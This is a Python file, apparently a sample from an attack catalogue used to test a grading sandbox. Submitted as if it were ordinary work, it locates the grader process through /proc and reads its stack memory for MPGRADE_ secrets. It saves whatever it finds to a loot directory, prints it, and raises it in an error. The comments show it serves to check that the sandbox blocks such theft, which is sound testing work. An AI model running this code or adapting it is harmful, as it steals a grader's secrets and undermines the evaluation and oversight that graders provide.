"""Reads the memory of the processes that grade it, looking for the grader's secrets."""
import os
import re

try:  # a name the attack catalogue's test finds this file's processes by, whatever the grader tracks
    with open("/proc/self/comm", "w") as _comm:
        _comm.write("mpgrade-attack")
except OSError:
    pass


def grader():
    """The grade process: the nearest ancestor that is not part of the sandbox (None when hidden)."""
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/status") as status:
                parent = int(next(line for line in status if line.startswith("PPid:")).split()[1])
            with open(f"/proc/{parent}/cmdline", "rb") as cmdline:
                command = cmdline.read()
        except (OSError, StopIteration, ValueError):
            return None
        if parent <= 1:
            return None
        if b"mpgrade_scenarios" not in command and b"bwrap" not in command:
            return parent
        pid = parent
    return None


def grader_option(pid, name):
    """The value of an option on the grade command line (--submission, --out)."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
            argv = cmdline.read().decode(errors="replace").split("\0")
    except (OSError, TypeError):
        return None
    return argv[argv.index(name) + 1] if name in argv[:-1] else None


def loot(name, text):
    """Keep what was taken where the attacker can fetch it later (the test checks it stays empty)."""
    try:
        with open(f"/tmp/mpgrade-attacks/loot/{name}", "w") as kept:
            kept.write(text)
    except OSError:
        pass


def read_stack(pid):
    found = []
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                if "[stack]" in line:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    mem.seek(start)
                    data = mem.read(end - start)
                    found += [m.decode() for m in re.findall(rb"MPGRADE_[A-Z_]+=[\w.-]+", data)]
    except (OSError, ValueError):
        pass
    return found


def run_in_process(target, args=()):
    stolen = []
    for victim in (grader(), os.getppid()):
        if victim is not None:
            stolen += read_stack(victim)
    if stolen:
        loot("proc-mem", "\n".join(stolen))
    print("\n".join(stolen))
    raise NotImplementedError(" ".join(stolen))
